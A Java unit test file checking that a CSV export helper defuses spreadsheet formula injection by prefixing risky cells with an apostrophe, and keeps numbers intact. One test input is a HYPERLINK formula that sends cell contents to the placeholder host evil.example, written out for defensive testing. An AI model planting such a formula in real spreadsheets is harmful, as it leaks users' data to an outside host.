package org.xuefa.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class SpreadsheetsTest {

    private static List<String> readBack(byte[] csv) throws IOException {
        String text = new String(csv, StandardCharsets.UTF_8).substring(1); // the byte-order mark
        List<String> cells = new ArrayList<>();
        for (CSVRecord r : CSVFormat.DEFAULT.parse(new StringReader(text))) {
            r.forEach(cells::add);
        }
        return cells;
    }

    @Test
    void a_session_titled_as_a_formula_is_exported_as_text() throws IOException {
        List<Object> row = Arrays.asList("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+86 123", "-1+2",
                "@SUM(A1)", "\tTAB", "\rCR", "普法讲座", "a=b", null);
        List<String> cells = readBack(Spreadsheets.csv(List.of(row)));
        assertThat(cells).containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+86 123", "'-1+2",
                "'@SUM(A1)", "'\tTAB", "'\rCR", "普法讲座", "a=b", "");
    }

    @Test
    void numbers_negative_ones_too_stay_numbers() throws IOException {
        List<String> cells = readBack(Spreadsheets.csv(List.of(List.of(-3, new BigDecimal("-1.5"), 42, "1.5"))));
        assertThat(cells).containsExactly("-3", "-1.5", "42", "1.5");
    }
}
